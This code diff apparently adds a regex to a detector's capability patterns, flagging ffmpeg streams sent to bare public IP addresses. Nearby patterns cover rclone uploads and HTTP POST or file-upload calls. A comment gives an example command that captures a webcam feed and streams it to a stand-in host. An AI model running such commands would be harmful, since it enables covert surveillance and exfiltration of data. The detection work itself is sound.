@@ -674,6 +674,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\brclone(?:\.exe)?\s+(?:copy|sync|move)\b[^\n]*\s\w+:",
             _I,
         ),
+        # a recording pushed live to a streaming server named only by its public address
+        # (`ffmpeg -f v4l2 -i /dev/video0 ... -f flv rtmp://203.0.113.244/live/x`); a stream to
+        # a platform's ingest host by name is a broadcast
+        re.compile(
+            r"\bffmpeg\b[^\n|;&]*\s['\"]?(?:rtmps?|srt|rtsp|udp|tcp)://"
+            + _NOT_PRIVATE_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}\b",
+            _I,
+        ),
         re.compile(
             r"\b(?:axios|got|superagent)\.post\s*\(|\$\.post\s*\(|Invoke-WebRequest\b[^\n]*-InFile\b",
             _I,
